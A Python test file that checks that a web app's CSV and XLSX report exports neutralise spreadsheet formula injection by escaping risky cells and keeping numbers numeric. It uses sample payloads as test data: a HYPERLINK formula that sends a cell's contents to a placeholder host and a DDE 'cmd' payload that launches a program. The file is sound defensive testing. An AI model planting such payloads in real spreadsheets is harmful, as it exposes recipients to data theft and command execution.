"""Issue 14 part 1: every export neutralises text a spreadsheet would evaluate, in one place
(server/tables.py): CSV cells get a leading apostrophe, XLSX cells are strings, never
formulas; numbers (negative ones too) stay numbers."""

import csv
import io

from openpyxl import load_workbook

from server.imports import sheets
from server.tables import to_csv, to_xlsx
from tests import factories

HYPERLINK = '=HYPERLINK("http://x/?"&C2,"x")'
DDE = "+cmd|' /C calc'!A0"


def _name_them(session, world):
    world.a.person.name = HYPERLINK
    world.a.caregiver.display_name = DDE
    session.add_all([world.a.person, world.a.caregiver])
    session.flush()


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_neutralised_csv(data: bytes, *texts):
    cells = _csv_cells(data)
    for t in texts:
        assert "'" + t in cells
        assert t not in cells


def assert_neutralised_xlsx(data: bytes, *texts):
    cells = _xlsx_cells(data)
    assert not [c for c in cells if c.data_type == "f"]
    for t in texts:
        found = [c for c in cells if isinstance(c.value, str) and c.value.endswith(t)]
        assert found, t
        for c in found:
            assert c.value == "'" + t and c.data_type == "s"


def test_tables_neutralise_text_and_keep_numbers():
    rows = [[HYPERLINK, DDE, "@SUM(A1)", "\tx", "\rx", "-x", -3, 2.5, "正常"]]
    text = _csv_cells(to_csv(["h"], rows))
    assert text[1:] == ["'" + HYPERLINK, "'" + DDE, "'@SUM(A1)", "'\tx", "'\rx", "'-x", "-3", "2.5", "正常"]
    ws = load_workbook(io.BytesIO(to_xlsx("t", ["h"], rows))).active
    row = list(ws.iter_rows(min_row=4))[0]  # under the title, 填报单位 and the headers
    # (XML turns a stored CR into LF on reading)
    assert [c.value for c in row[:6]] == ["'" + HYPERLINK, "'" + DDE, "'@SUM(A1)", "'\tx", "'\nx", "'-x"]
    assert all(c.data_type == "s" for c in row[:6])
    assert row[6].value == -3 and row[6].data_type == "n" and row[7].value == 2.5
    assert row[8].value == "正常"


def test_agreements_report(client, session, world):
    _name_them(session, world)
    h = factories.headers(session, world.admin)
    r = client.get("/api/reports/agreements?format=csv", headers=h)
    assert r.status_code == 200
    assert_neutralised_csv(r.data, HYPERLINK, DDE)
    r = client.get("/api/reports/agreements?format=xlsx", headers=h)
    assert_neutralised_xlsx(r.data, HYPERLINK, DDE)


def test_annex3_export(client, session, world):
    from tests.test_assessments import form

    _name_them(session, world)
    h = factories.headers(session, world.a.staff)
    assert client.post("/api/assessments", json=form(world.a.person.id, remarks=DDE), headers=h).status_code == 201
    r = client.get(f"/api/assessments/export?place_id={world.a.place.id}&format=csv", headers=h)
    assert_neutralised_csv(r.data, HYPERLINK, DDE)
    r = client.get(f"/api/assessments/export?place_id={world.a.place.id}&format=xlsx", headers=h)
    assert_neutralised_xlsx(r.data, HYPERLINK, DDE)


def test_roster_export(client, session, world):
    _name_them(session, world)
    r = client.get("/api/imports/export", headers=factories.headers(session, world.a.staff))
    assert r.status_code == 200
    assert_neutralised_xlsx(r.data, HYPERLINK, DDE)


def test_logins_sheet():
    data = sheets.logins_xlsx([{"display_name": DDE, "username": "13900000000", "one_time_password": "x",
                                "persons": [HYPERLINK]}])
    assert_neutralised_xlsx(data, DDE, HYPERLINK)
